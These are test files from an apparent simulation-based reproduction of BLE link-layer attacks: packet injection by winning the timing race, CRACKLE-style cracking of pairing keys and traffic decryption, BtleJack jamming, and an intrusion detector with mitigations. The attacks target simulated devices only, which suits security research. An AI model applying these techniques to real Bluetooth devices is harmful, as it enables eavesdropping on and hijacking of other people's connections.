        assert counters["medium.rx"] >= counters["medium.tx"]
        assert counters["inject.attempts"] >= 1
        assert counters["inject.success"] == 1
        assert counters["sniffer.anchors"] > 0
        hist = result.metrics["histograms"]["inject.attempts_to_success"]
        assert hist["count"] == 1
        assert hist["sum"] == result.attempts
        airtime = [k for k in counters if k.startswith("medium.airtime_us.")]
        assert airtime  # per-channel airtime was accounted

    def test_metrics_off_by_default_in_trials(self):
        result = run_single_trial(
            InjectionTrial(seed=71_0002, hop_interval=75))
        assert result.metrics is None
