"""Unit tests for the discrete-event engine."""

import pytest

from repro.errors import SchedulingError, SimulationError
from repro.sim.simulator import Simulator


class TestScheduling:
    def test_clock_advances_to_events(self):
        sim = Simulator(seed=0)
        times = []
        sim.schedule_at(50.0, lambda: times.append(sim.now))
        sim.schedule_at(150.0, lambda: times.append(sim.now))
        sim.run()
        assert times == [50.0, 150.0]

    def test_schedule_in_relative(self):
        sim = Simulator(seed=0)
        order = []
        sim.schedule_in(10.0, lambda: order.append("a"))
        sim.schedule_in(5.0, lambda: order.append("b"))
        sim.run()
        assert order == ["b", "a"]

    def test_nested_scheduling(self):
        sim = Simulator(seed=0)
        fired = []

        def outer():
            fired.append(("outer", sim.now))
            sim.schedule_in(25.0, lambda: fired.append(("inner", sim.now)))

        sim.schedule_at(100.0, outer)
        sim.run()
        assert fired == [("outer", 100.0), ("inner", 125.0)]

    def test_cannot_schedule_in_the_past(self):
        sim = Simulator(seed=0)
        sim.schedule_at(100.0, lambda: None)
        sim.run()
        with pytest.raises(SchedulingError):
            sim.schedule_at(50.0, lambda: None)

    def test_negative_delay_rejected(self):
        with pytest.raises(SchedulingError):
            Simulator(seed=0).schedule_in(-1.0, lambda: None)


class TestRun:
    def test_until_stops_the_clock(self):
        sim = Simulator(seed=0)
        fired = []
        sim.schedule_at(100.0, lambda: fired.append(1))
        sim.schedule_at(300.0, lambda: fired.append(2))
        n = sim.run(until_us=200.0)
        assert n == 1 and fired == [1]
        assert sim.now == 200.0

    def test_run_can_resume(self):
        sim = Simulator(seed=0)
        fired = []
        sim.schedule_at(100.0, lambda: fired.append(1))
        sim.schedule_at(300.0, lambda: fired.append(2))
        sim.run(until_us=200.0)
        sim.run()
        assert fired == [1, 2]

    def test_returns_event_count(self):
        sim = Simulator(seed=0)
        for i in range(7):
            sim.schedule_at(float(i), lambda: None)
        assert sim.run() == 7

    def test_stop_request(self):
        sim = Simulator(seed=0)
        fired = []
        sim.schedule_at(1.0, lambda: (fired.append(1), sim.stop()))
        sim.schedule_at(2.0, lambda: fired.append(2))
        sim.run()
        assert fired == [1]

    def test_runaway_protection(self):
        sim = Simulator(seed=0)

        def reschedule():
            sim.schedule_in(1.0, reschedule)

        sim.schedule_at(0.0, reschedule)
        with pytest.raises(SimulationError):
            sim.run(max_events=1000)

    def test_not_reentrant(self):
        sim = Simulator(seed=0)

        def recurse():
            sim.run()

        sim.schedule_at(1.0, recurse)
        with pytest.raises(SimulationError):
            sim.run()

    def test_pending_events(self):
        sim = Simulator(seed=0)
        sim.schedule_at(5.0, lambda: None)
        assert sim.pending_events() == 1


class TestDeterminism:
    def test_streams_reproducible(self):
        a = Simulator(seed=42).streams.get("x").integers(0, 1000, 5)
        b = Simulator(seed=42).streams.get("x").integers(0, 1000, 5)
        assert list(a) == list(b)

    def test_trace_records(self):
        sim = Simulator(seed=0)
        sim.schedule_at(10.0, lambda: sim.trace.record(sim.now, "t", "tick"))
        sim.run()
        assert len(sim.trace.filter(kind="tick")) == 1
