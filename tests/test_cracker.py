"""Tests for the CRACKLE-style pairing cracker (paper §II, Ryan 2013)."""

import pytest

from repro.core.attacker import Attacker
from repro.core.cracker import (
    PairingSniffer,
    PairingTranscript,
    SessionCracker,
    crack_tk,
    stk_from_pin,
)
from repro.devices import Lightbulb, Smartphone
from repro.errors import AttackError
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_paired_world(seed=90, tk_pin=None):
    """Victims pair under the attacker's nose; returns the capture state."""
    sim = Simulator(seed=seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=36)
    attacker = Attacker(sim, medium, "attacker")
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_200_000)
    assert attacker.synchronized

    pairing = PairingSniffer(attacker.connection)
    captured = []
    prev = attacker.sniffer.on_event

    def hook(event):
        prev(event)
        pairing.on_event(event)
        if (event.master_pdu is not None and event.master_pdu.payload
                and not event.master_pdu.is_control):
            captured.append(event.master_pdu)

    attacker.sniffer.on_event = hook
    phone.host.pair(encrypt=True)
    sim.run(until_us=4_000_000)
    return sim, bulb, phone, pairing, captured


class TestTranscriptCapture:
    def test_transcript_completes(self):
        _, _, _, pairing, _ = build_paired_world()
        assert pairing.transcript.complete

    def test_session_material_captured(self):
        _, _, _, pairing, _ = build_paired_world(seed=91)
        assert pairing.session.complete

    def test_addresses_from_connect_req(self):
        _, bulb, phone, pairing, _ = build_paired_world(seed=92)
        assert pairing.transcript.initiator_address == \
            phone.ll.address.to_bytes()
        assert pairing.transcript.responder_address == \
            bulb.ll.address.to_bytes()


class TestCrackTk:
    def test_just_works_cracks_instantly(self):
        _, _, _, pairing, _ = build_paired_world(seed=93)
        assert crack_tk(pairing.transcript, max_pin=0) == 0

    def test_stk_matches_victims(self):
        _, bulb, phone, pairing, _ = build_paired_world(seed=94)
        pin = crack_tk(pairing.transcript, max_pin=0)
        assert stk_from_pin(pairing.transcript, pin) == bulb.ll.ltk

    def test_wrong_pin_range_returns_none(self):
        # Forge a transcript whose confirm cannot match small PINs.
        transcript = PairingTranscript(
            preq=bytes(7), pres=bytes(7),
            initiator_confirm=bytes(16), responder_confirm=bytes(16),
            initiator_random=bytes(16), responder_random=bytes(16),
            initiator_address=bytes(6), responder_address=bytes(6),
        )
        assert crack_tk(transcript, max_pin=3) is None

    def test_incomplete_transcript_rejected(self):
        with pytest.raises(AttackError):
            crack_tk(PairingTranscript(), max_pin=0)

    def test_nonzero_pin_recovered(self):
        """A passkey-entry pairing with a small PIN is equally dead."""
        import numpy as np

        from repro.host.smp import SecurityManager

        pin = 42
        tk = pin.to_bytes(16, "big")
        queues = {"i": [], "r": []}
        initiator = SecurityManager(
            send=queues["r"].append, is_initiator=True,
            local_addr=bytes(range(6)), peer_addr=bytes(range(6, 12)),
            rng=np.random.default_rng(1), tk=tk)
        responder = SecurityManager(
            send=queues["i"].append, is_initiator=False,
            local_addr=bytes(range(6, 12)), peer_addr=bytes(range(6)),
            rng=np.random.default_rng(2), tk=tk)
        initiator.start()
        for _ in range(8):
            while queues["r"]:
                responder.on_pdu(queues["r"].pop(0))
            while queues["i"]:
                initiator.on_pdu(queues["i"].pop(0))
        assert initiator.stk is not None
        # Rebuild the transcript as a passive observer would have seen it.
        transcript = PairingTranscript(
            preq=initiator.features.to_bytes(0x01),
            pres=responder.features.to_bytes(0x02),
            initiator_confirm=initiator._confirm_value(
                initiator._local_random),
            responder_confirm=None,
            initiator_random=initiator._local_random,
            responder_random=responder._local_random,
            initiator_address=bytes(range(6)),
            responder_address=bytes(range(6, 12)),
        )
        assert crack_tk(transcript, max_pin=100) == pin
        assert stk_from_pin(transcript, pin) == initiator.stk


class TestSessionCracker:
    def test_full_chain_decrypts_traffic(self):
        sim, bulb, phone, pairing, captured = build_paired_world(seed=95)
        cracker = SessionCracker(pairing, max_pin=0)
        assert cracker.crack()
        assert cracker.session_key == phone.ll.encryption.session_key
        captured.clear()
        ctrl = bulb.gatt.find_characteristic(0xFF11).value_handle
        phone.gatt.write(ctrl, Lightbulb.power_payload(False))
        sim.run(until_us=7_000_000)
        assert captured
        from repro.host.l2cap import l2cap_decode

        plaintext = cracker.decrypt(captured[0], from_master=True)
        cid, att = l2cap_decode(plaintext)
        assert cid == 4
        assert att[0] == 0x12  # ATT Write Request, recovered from ciphertext

    def test_decrypt_before_crack_rejected(self):
        _, _, _, pairing, captured = build_paired_world(seed=96)
        cracker = SessionCracker(pairing)
        from repro.ll.pdu.data import LLID, DataPdu

        with pytest.raises(AttackError):
            cracker.decrypt(DataPdu.make(LLID.DATA_START, bytes(8)), True)
