"""Unit tests for drifting sleep clocks."""

import numpy as np
import pytest

from repro.errors import ConfigurationError
from repro.sim.clock import (
    SCA_FIELD_PPM,
    SleepClock,
    ppm_to_sca_field,
    sca_field_to_ppm,
)


class TestScaFields:
    def test_field_table_matches_spec(self):
        assert SCA_FIELD_PPM == (500.0, 250.0, 150.0, 100.0, 75.0, 50.0,
                                 30.0, 20.0)

    def test_field_to_ppm(self):
        assert sca_field_to_ppm(7) == 20.0
        assert sca_field_to_ppm(0) == 500.0

    def test_ppm_to_field_smallest_covering(self):
        assert ppm_to_sca_field(20.0) == 7
        assert ppm_to_sca_field(50.0) == 5
        assert ppm_to_sca_field(60.0) == 4  # 75 ppm covers 60

    def test_ppm_to_field_huge_value(self):
        assert ppm_to_sca_field(1000.0) == 0

    def test_invalid_field_rejected(self):
        with pytest.raises(ConfigurationError):
            sca_field_to_ppm(8)


class TestSleepClock:
    def make(self, sca=50.0, seed=1, jitter=0.0):
        return SleepClock(sca, rng=np.random.default_rng(seed),
                          jitter_us=jitter)

    def test_rate_error_bounded_by_utilized_sca(self):
        for seed in range(20):
            clock = self.make(sca=100.0, seed=seed)
            assert -60.0 <= clock.rate_error_ppm <= 60.0

    def test_full_utilization_bound(self):
        import numpy as np
        from repro.sim.clock import SleepClock

        for seed in range(10):
            clock = SleepClock(100.0, rng=np.random.default_rng(seed),
                               utilization=1.0)
            assert -100.0 <= clock.rate_error_ppm <= 100.0

    def test_invalid_utilization_rejected(self):
        import pytest as _pytest
        from repro.errors import ConfigurationError
        from repro.sim.clock import SleepClock

        with _pytest.raises(ConfigurationError):
            SleepClock(50.0, utilization=1.5)

    def test_zero_sca_is_perfect(self):
        clock = self.make(sca=0.0)
        assert clock.rate == 1.0
        assert clock.local_from_true(12345.0) == 12345.0

    def test_conversions_are_inverse(self):
        clock = self.make(sca=200.0, seed=3)
        t = 5_000_000.0
        assert clock.true_from_local(clock.local_from_true(t)) == \
            pytest.approx(t)

    def test_drift_magnitude_over_interval(self):
        clock = self.make(sca=100.0, seed=5)
        interval = 1_000_000.0  # 1 s
        drift = clock.drift_over(interval)
        # |drift| ≈ |rate_error| * interval, bounded by the utilized budget.
        assert abs(drift) <= 60.0 + 1e-6
        assert abs(drift) == pytest.approx(
            abs(clock.rate_error_ppm) * interval / 1e6, rel=1e-3)

    def test_two_clocks_differ(self):
        a = self.make(seed=1)
        b = self.make(seed=2)
        assert a.rate_error_ppm != b.rate_error_ppm

    def test_jitter_disabled(self):
        clock = self.make(jitter=0.0)
        assert clock.sample_jitter() == 0.0

    def test_jitter_distribution(self):
        clock = self.make(jitter=2.0, seed=9)
        samples = [clock.sample_jitter() for _ in range(200)]
        assert np.std(samples) == pytest.approx(2.0, rel=0.3)

    def test_negative_sca_rejected(self):
        with pytest.raises(ConfigurationError):
            SleepClock(-1.0)

    def test_negative_jitter_rejected(self):
        with pytest.raises(ConfigurationError):
            SleepClock(10.0, jitter_us=-1.0)
