"""Tests for the §VII experiment harness (reduced sample sizes for speed;
the full 25-connection sweeps run in benchmarks/)."""

import pytest

from repro.analysis.stats import box_stats
from repro.errors import ConfigurationError
from repro.experiments.common import (
    InjectionTrial,
    attempts_of,
    build_injection_payload,
    run_single_trial,
    run_trials,
    success_rate,
)
from repro.experiments.distance import run_experiment_distance
from repro.experiments.hop_interval import run_experiment_hop_interval
from repro.experiments.payload_size import run_experiment_payload_size
from repro.experiments.wall import run_experiment_wall


class TestPayloadConstruction:
    @pytest.mark.parametrize("pdu_len", [4, 9, 14, 16, 20])
    def test_exact_pdu_length(self, pdu_len):
        payload, llid = build_injection_payload(pdu_len, control_handle=6)
        # Total PDU = 2-byte header + payload.
        assert 2 + len(payload) == pdu_len or pdu_len == 4
        if pdu_len == 4:
            assert 2 + len(payload) == 4  # opcode + error code

    def test_paper_22_byte_frame(self):
        payload, _ = build_injection_payload(14, control_handle=6)
        from repro.phy.modulation import frame_length_bytes

        assert frame_length_bytes(2 + len(payload)) == 22

    def test_unobservable_size_rejected(self):
        with pytest.raises(ConfigurationError):
            build_injection_payload(6, control_handle=6)


class TestSingleTrial:
    def test_basic_trial_succeeds(self):
        result = run_single_trial(InjectionTrial(seed=100, hop_interval=75))
        assert result.success
        assert result.effect_observed
        assert result.connection_survived
        assert result.attempts >= 1

    def test_trial_is_deterministic(self):
        a = run_single_trial(InjectionTrial(seed=123, hop_interval=75))
        b = run_single_trial(InjectionTrial(seed=123, hop_interval=75))
        assert a.attempts == b.attempts
        assert a.success == b.success

    def test_different_seeds_vary(self):
        attempts = {run_single_trial(
            InjectionTrial(seed=s, hop_interval=75)).attempts
            for s in range(200, 206)}
        assert len(attempts) > 1

    def test_terminate_trial(self):
        result = run_single_trial(InjectionTrial(seed=101, hop_interval=75,
                                                 pdu_len=4))
        assert result.success and result.effect_observed


class TestRunTrials:
    def test_collects_n_results(self):
        results = run_trials(1, 4, lambda seed: InjectionTrial(
            seed=seed, hop_interval=75))
        assert len(results) == 4

    def test_helpers(self):
        results = run_trials(2, 4, lambda seed: InjectionTrial(
            seed=seed, hop_interval=75))
        assert 0.0 <= success_rate(results) <= 1.0
        assert len(attempts_of(results)) == \
            sum(1 for r in results if r.success)


class TestExperimentShapes:
    """Reduced-size checks of the Figure 9 qualitative shapes."""

    def test_hop_interval_experiment(self):
        results = run_experiment_hop_interval(
            base_seed=11, n_connections=6, hop_intervals=(25, 150))
        for hop, trials in results.items():
            assert success_rate(trials) == 1.0, f"hop {hop} not always injectable"
        # Variance shrinks from the smallest to the largest interval.
        var_small = box_stats(attempts_of(results[25])).variance
        var_large = box_stats(attempts_of(results[150])).variance
        assert var_large <= var_small + 1.0

    def test_payload_size_experiment(self):
        results = run_experiment_payload_size(
            base_seed=12, n_connections=6, payload_sizes=(4, 16))
        for size, trials in results.items():
            assert success_rate(trials) == 1.0
        median_small = box_stats(attempts_of(results[4])).median
        median_large = box_stats(attempts_of(results[16])).median
        assert median_small <= median_large + 1.0

    def test_distance_experiment(self):
        results = run_experiment_distance(
            base_seed=13, n_connections=5,
            positions={"A (1 m)": 1.0, "F (10 m)": 10.0})
        for label, trials in results.items():
            assert success_rate(trials) == 1.0, f"{label} failed"
        near = box_stats(attempts_of(results["A (1 m)"]))
        far = box_stats(attempts_of(results["F (10 m)"]))
        assert far.median >= near.median

    def test_wall_experiment(self):
        results = run_experiment_wall(base_seed=14, n_connections=5,
                                      distances=(2.0,))
        trials = results[2.0]
        assert success_rate(trials) == 1.0
        # The wall costs more attempts than the same distance in free space.
        free = run_experiment_distance(
            base_seed=14, n_connections=5, positions={"B (2 m)": 2.0})
        walled_mean = box_stats(attempts_of(trials)).mean
        free_mean = box_stats(attempts_of(free["B (2 m)"])).mean
        assert walled_mean >= free_mean
