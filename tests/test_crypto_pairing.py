"""Unit tests for c1/s1 (Core Spec sample data) and session-key derivation."""

import pytest

from repro.crypto.pairing import c1, s1, session_key_from_skd
from repro.errors import SecurityError

TK = bytes(16)


class TestC1SpecVector:
    """Core Spec Vol 3 Part H §2.2.3 sample data."""

    RAND = bytes.fromhex("5783D52156AD6F0E6388274EC6702EE0")
    PREQ = bytes.fromhex("07071000000101")
    PRES = bytes.fromhex("05000800000302")
    IA = bytes.fromhex("A1A2A3A4A5A6")
    RA = bytes.fromhex("B1B2B3B4B5B6")
    CONFIRM = bytes.fromhex("1e1e3fef878988ead2a74dc5bef13b86")

    def test_spec_sample(self):
        confirm = c1(TK, self.RAND, self.PREQ, self.PRES, 1, 0,
                     self.IA, self.RA)
        assert confirm == self.CONFIRM

    def test_sensitive_to_random(self):
        other = bytes(16)
        assert c1(TK, other, self.PREQ, self.PRES, 1, 0, self.IA,
                  self.RA) != self.CONFIRM

    def test_sensitive_to_addresses(self):
        assert c1(TK, self.RAND, self.PREQ, self.PRES, 1, 0, self.RA,
                  self.IA) != self.CONFIRM

    def test_sensitive_to_address_types(self):
        assert c1(TK, self.RAND, self.PREQ, self.PRES, 0, 0, self.IA,
                  self.RA) != self.CONFIRM

    def test_wrong_lengths_rejected(self):
        with pytest.raises(SecurityError):
            c1(TK, self.RAND, b"short", self.PRES, 1, 0, self.IA, self.RA)
        with pytest.raises(SecurityError):
            c1(TK, self.RAND, self.PREQ, self.PRES, 1, 0, b"bad", self.RA)


class TestS1SpecVector:
    def test_spec_sample(self):
        r1 = bytes.fromhex("000F0E0D0C0B0A091122334455667788")
        r2 = bytes.fromhex("010203040506070899AABBCCDDEEFF00")
        assert s1(TK, r1, r2) == \
            bytes.fromhex("9a1fe1f0e8b0f49b5b4216ae796da062")

    def test_uses_least_significant_octets(self):
        # Changing only the most significant halves must not matter.
        r1a = bytes(8) + bytes(range(8))
        r1b = bytes([0xFF] * 8) + bytes(range(8))
        r2 = bytes(16)
        assert s1(TK, r1a, r2) == s1(TK, r1b, r2)

    def test_wrong_length_rejected(self):
        with pytest.raises(SecurityError):
            s1(TK, bytes(15), bytes(16))


class TestSessionKey:
    def test_deterministic(self):
        ltk = bytes(range(16))
        assert session_key_from_skd(ltk, 1, 2) == \
            session_key_from_skd(ltk, 1, 2)

    def test_skd_halves_matter(self):
        ltk = bytes(range(16))
        assert session_key_from_skd(ltk, 1, 2) != \
            session_key_from_skd(ltk, 2, 1)

    def test_ltk_matters(self):
        assert session_key_from_skd(bytes(16), 1, 2) != \
            session_key_from_skd(bytes(range(16)), 1, 2)

    def test_wrong_ltk_length_rejected(self):
        with pytest.raises(SecurityError):
            session_key_from_skd(bytes(8), 1, 2)
