"""Tests for the link-layer IDS wrapper and the §VIII countermeasures.

The boolean-alert `LinkLayerIds` is now a thin wrapper over the
pluggable detector framework (`repro.defense.api` / `bank`); the
framework itself is tested in `test_defense_framework.py`.  These
tests keep the original monitoring contract — and assert the wrapper
really is backed by the registry detectors."""

import pytest

from repro.core.attacker import Attacker
from repro.core.injection import InjectionConfig
from repro.defense.ids import LinkLayerIds
from repro.devices import Lightbulb, Smartphone
from repro.host.att.pdus import WriteReq
from repro.host.l2cap import CID_ATT, l2cap_encode
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_monitored_world(seed=91, interval=75):
    sim = Simulator(seed=seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    ids = LinkLayerIds(sim, medium)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=interval)
    attacker = Attacker(sim, medium, "attacker",
                        injection_config=InjectionConfig(max_attempts=60))
    return sim, medium, ids, bulb, phone, attacker


def run_injection(sim, bulb, phone, attacker):
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_500_000)
    assert attacker.synchronized
    handle = bulb.gatt.find_characteristic(0xFF11).value_handle
    payload = l2cap_encode(CID_ATT, WriteReq(
        handle, Lightbulb.power_payload(False, pad_to=5)).to_bytes())
    reports = []
    attacker.inject(payload, on_done=reports.append)
    sim.run(until_us=60_000_000)
    return reports[0] if reports else None


class TestIdsAgainstInjection:
    def test_injection_detected(self):
        sim, medium, ids, bulb, phone, attacker = build_monitored_world()
        report = run_injection(sim, bulb, phone, attacker)
        assert report is not None and report.success
        assert ids.detected_injection()

    def test_no_alerts_on_clean_traffic(self):
        sim, medium, ids, bulb, phone, _ = build_monitored_world(seed=92)
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=5_000_000)
        phone.ll.request_connection_update(interval=50)
        sim.run(until_us=10_000_000)
        assert not ids.detected_injection()
        assert not ids.detected_jamming()

    def test_alert_metadata(self):
        sim, medium, ids, bulb, phone, attacker = build_monitored_world(
            seed=93)
        run_injection(sim, bulb, phone, attacker)
        alerts = (ids.alerts_of_kind("double-frame")
                  + ids.alerts_of_kind("anchor-anomaly"))
        assert alerts
        aa = phone.ll.conn.params.access_address if phone.ll.conn else None
        # Alerts reference the victim connection's access address.
        assert any(a.access_address == aa for a in alerts) or aa is None


class TestIdsIsBankBacked:
    def test_wrapper_loads_the_classic_detectors(self):
        sim, medium, ids, *_ = build_monitored_world(seed=96)
        assert [d.name for d in ids.bank.detectors] == [
            "double-frame", "anchor-anomaly", "jamming"]

    def test_alerts_mirror_the_banks_alert_verdicts(self):
        from repro.defense import ALERT_SCORE

        sim, medium, ids, bulb, phone, attacker = build_monitored_world(
            seed=95)
        run_injection(sim, bulb, phone, attacker)
        bank_alerts = [v for v in ids.bank.verdicts
                       if v.score >= ALERT_SCORE]
        assert bank_alerts
        assert [(v.time_us, v.kind, v.access_address)
                for v in bank_alerts] == \
            [(a.time_us, a.kind, a.access_address) for a in ids.alerts]


class TestIdsAgainstJamming:
    def test_btlejack_detected(self):
        from repro.core.baselines import BtleJackHijack
        from repro.host.stack import CentralHost
        from repro.ll.master import MasterLinkLayer
        from repro.ll.pdu.address import BdAddress

        sim = Simulator(seed=94)
        topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
        medium = Medium(sim, topo)
        ids = LinkLayerIds(sim, medium)
        bulb = Lightbulb(sim, medium, "bulb")
        phone = MasterLinkLayer(sim, medium, "phone",
                                BdAddress.from_str("C0:FF:EE:00:00:09"),
                                interval=36, timeout=100)
        CentralHost(phone)
        attacker = Attacker(sim, medium, "attacker")
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect(bulb.address)
        sim.run(until_us=1_500_000)
        attacker.release_radio()
        hijack = BtleJackHijack(sim, attacker.radio, attacker.connection)
        hijack.start()
        sim.run(until_us=30_000_000)
        assert ids.detected_jamming()


class TestWideningMitigation:
    def test_reduced_widening_blocks_injection(self):
        """§VIII mitigation 1: shrinking the receive window starves the
        race; the attack stops succeeding."""
        from repro.experiments.common import InjectionTrial, run_single_trial

        blocked = 0
        for i in range(5):
            result = run_single_trial(InjectionTrial(
                seed=9_000 + i, hop_interval=75, pdu_len=14,
                widening_scale=0.1))
            if not result.success:
                blocked += 1
        assert blocked >= 4

    def test_spec_widening_allows_injection(self):
        from repro.experiments.common import InjectionTrial, run_single_trial

        succeeded = 0
        for i in range(5):
            result = run_single_trial(InjectionTrial(
                seed=9_100 + i, hop_interval=75, pdu_len=14,
                widening_scale=1.0))
            if result.success:
                succeeded += 1
        assert succeeded >= 4


class TestEncryptionMitigation:
    def test_injection_into_encrypted_link_is_dos_only(self):
        """§IV: with AES-CCM on, the race can still be won but the MIC
        fails — confidentiality/integrity hold, availability does not."""
        from repro.experiments.common import InjectionTrial, run_single_trial

        for i in range(3):
            result = run_single_trial(InjectionTrial(
                seed=9_200 + i, hop_interval=75, pdu_len=14, encrypted=True))
            assert not result.effect_observed  # integrity preserved
