"""Unit tests for the attacker's sniffed-connection state."""

import pytest

from repro.core.state import SniffedConnection
from repro.errors import SnifferError
from repro.ll.connection import ConnectionParams
from repro.ll.pdu.control import ChannelMapInd, ConnectionUpdateInd
from repro.utils.units import SLOT_US


def make_params(**overrides) -> ConnectionParams:
    fields = dict(
        access_address=0x50123456, crc_init=0xABCDEF, win_size=2,
        win_offset=1, interval=36, latency=0, timeout=100,
        channel_map=(1 << 37) - 1, hop_increment=9, master_sca_ppm=50.0,
    )
    fields.update(overrides)
    return ConnectionParams(**fields)


class TestHopping:
    def test_mirrors_csa1(self):
        conn = SniffedConnection(make_params(hop_increment=7))
        channels = [conn.advance_event() for _ in range(10)]
        assert channels == [(7 * (i + 1)) % 37 for i in range(10)]

    def test_event_counter_wraps(self):
        conn = SniffedConnection(make_params())
        conn.event_count = 0xFFFF
        conn.advance_event()
        assert conn.event_count == 0


class TestTiming:
    def test_prediction_from_anchor(self):
        conn = SniffedConnection(make_params(interval=36))
        conn.advance_event()
        conn.note_anchor(1_000_000.0)
        conn.advance_event()
        assert conn.predicted_anchor_us() == 1_000_000.0 + 36 * SLOT_US

    def test_prediction_accumulates_missed_events(self):
        conn = SniffedConnection(make_params(interval=36))
        conn.note_anchor(0.0)
        conn.advance_event()
        conn.advance_event()
        conn.advance_event()
        assert conn.predicted_anchor_us() == 3 * 36 * SLOT_US

    def test_no_anchor_raises(self):
        conn = SniffedConnection(make_params())
        with pytest.raises(SnifferError):
            conn.predicted_anchor_us()

    def test_widening_estimate_uses_worst_case_20ppm(self):
        conn = SniffedConnection(make_params(master_sca_ppm=50.0,
                                             interval=75))
        conn.note_anchor(0.0)
        conn.advance_event()
        # (50+20)/1e6 * 93750 + 32
        assert conn.estimated_widening_us() == pytest.approx(38.5625)

    def test_widening_grows_with_missed_events(self):
        conn = SniffedConnection(make_params())
        conn.note_anchor(0.0)
        conn.advance_event()
        w1 = conn.estimated_widening_us()
        conn.advance_event()
        w2 = conn.estimated_widening_us()
        assert w2 > w1


class TestForgedBits:
    def test_equation_6(self):
        conn = SniffedConnection(make_params())
        conn.slave_bits.sn = 1
        conn.slave_bits.nesn = 0
        conn.slave_bits.seen = True
        sn_a, nesn_a = conn.forged_bits()
        assert sn_a == 0          # SN_a = NESN_s
        assert nesn_a == 0        # NESN_a = (SN_s + 1) mod 2

    def test_all_bit_combinations(self):
        conn = SniffedConnection(make_params())
        conn.slave_bits.seen = True
        for sn_s in (0, 1):
            for nesn_s in (0, 1):
                conn.slave_bits.sn = sn_s
                conn.slave_bits.nesn = nesn_s
                sn_a, nesn_a = conn.forged_bits()
                assert sn_a == nesn_s
                assert nesn_a == (sn_s + 1) % 2

    def test_requires_observed_slave_frame(self):
        conn = SniffedConnection(make_params())
        with pytest.raises(SnifferError):
            conn.forged_bits()


class TestProcedureMirroring:
    def test_update_applied_at_instant(self):
        conn = SniffedConnection(make_params(interval=36))
        conn.note_anchor(0.0)
        update = ConnectionUpdateInd(win_size=2, win_offset=3, interval=75,
                                     latency=0, timeout=100, instant=4)
        conn.observe_update(update)
        for _ in range(3):
            conn.advance_event()
        assert conn.params.interval == 36
        conn.advance_event()  # the instant
        assert conn.params.interval == 75
        # Anchor re-based at the update window start (paper Fig. 2).
        expected = 4 * 36 * SLOT_US + SLOT_US + 3 * SLOT_US
        assert conn.last_anchor_us == pytest.approx(expected)
        assert conn.events_since_anchor == 0

    def test_channel_map_applied_at_instant(self):
        conn = SniffedConnection(make_params())
        update = ChannelMapInd(channel_map=0x3FF, instant=2)
        conn.observe_channel_map(update)
        conn.advance_event()
        assert conn.params.channel_map != 0x3FF
        conn.advance_event()
        assert conn.params.channel_map == 0x3FF
        for _ in range(30):
            assert conn.advance_event() <= 9

    def test_instant_in_future_for(self):
        conn = SniffedConnection(make_params())
        conn.event_count = 100
        assert conn.instant_in_future_for(101)
        assert not conn.instant_in_future_for(100)
        assert not conn.instant_in_future_for(99)


class TestClone:
    def test_clone_copies_state(self):
        conn = SniffedConnection(make_params())
        conn.advance_event()
        conn.note_anchor(5000.0)
        conn.slave_bits.sn = 1
        conn.slave_bits.seen = True
        clone = conn.clone()
        assert clone.event_count == conn.event_count
        assert clone.last_anchor_us == conn.last_anchor_us
        assert clone.slave_bits.sn == 1

    def test_clone_is_independent(self):
        conn = SniffedConnection(make_params())
        conn.advance_event()
        clone = conn.clone()
        conn.advance_event()
        assert clone.event_count == conn.event_count - 1

    def test_clone_hops_in_lockstep(self):
        conn = SniffedConnection(make_params())
        for _ in range(5):
            conn.advance_event()
        clone = conn.clone()
        assert [conn.advance_event() for _ in range(20)] == \
            [clone.advance_event() for _ in range(20)]

    def test_clone_drops_pending_updates(self):
        conn = SniffedConnection(make_params(interval=36))
        conn.note_anchor(0.0)
        update = ConnectionUpdateInd(win_size=2, win_offset=3, interval=75,
                                     latency=0, timeout=100, instant=1)
        conn.observe_update(update)
        clone = conn.clone()
        clone.advance_event()
        assert clone.params.interval == 36  # clone keeps the old schedule
        conn.advance_event()
        assert conn.params.interval == 75
