"""Unit tests for AES-CCM as used by the BLE Link Layer."""

import pytest

from repro.crypto.ccm import MIC_LEN, ccm_decrypt, ccm_encrypt
from repro.errors import SecurityError

KEY = bytes(range(16))
NONCE = bytes(range(13))


class TestRoundTrip:
    def test_encrypt_decrypt(self):
        ct = ccm_encrypt(KEY, NONCE, b"attack at dawn", b"\x02")
        assert ccm_decrypt(KEY, NONCE, ct, b"\x02") == b"attack at dawn"

    def test_ciphertext_layout(self):
        ct = ccm_encrypt(KEY, NONCE, b"hello")
        assert len(ct) == 5 + MIC_LEN

    def test_empty_plaintext(self):
        ct = ccm_encrypt(KEY, NONCE, b"")
        assert len(ct) == MIC_LEN
        assert ccm_decrypt(KEY, NONCE, ct) == b""

    def test_long_plaintext_multiple_blocks(self):
        data = bytes(range(100))
        ct = ccm_encrypt(KEY, NONCE, data, b"\x0e")
        assert ccm_decrypt(KEY, NONCE, ct, b"\x0e") == data

    def test_ciphertext_differs_from_plaintext(self):
        assert ccm_encrypt(KEY, NONCE, b"plaintext!")[:10] != b"plaintext!"


class TestAuthenticity:
    """MIC failure is the paper's encrypted-connection DoS mechanism."""

    def test_tampered_ciphertext_rejected(self):
        ct = bytearray(ccm_encrypt(KEY, NONCE, b"data", b"\x02"))
        ct[0] ^= 0x01
        with pytest.raises(SecurityError):
            ccm_decrypt(KEY, NONCE, bytes(ct), b"\x02")

    def test_tampered_mic_rejected(self):
        ct = bytearray(ccm_encrypt(KEY, NONCE, b"data"))
        ct[-1] ^= 0x80
        with pytest.raises(SecurityError):
            ccm_decrypt(KEY, NONCE, bytes(ct))

    def test_wrong_key_rejected(self):
        ct = ccm_encrypt(KEY, NONCE, b"data")
        with pytest.raises(SecurityError):
            ccm_decrypt(bytes(16), NONCE, ct)

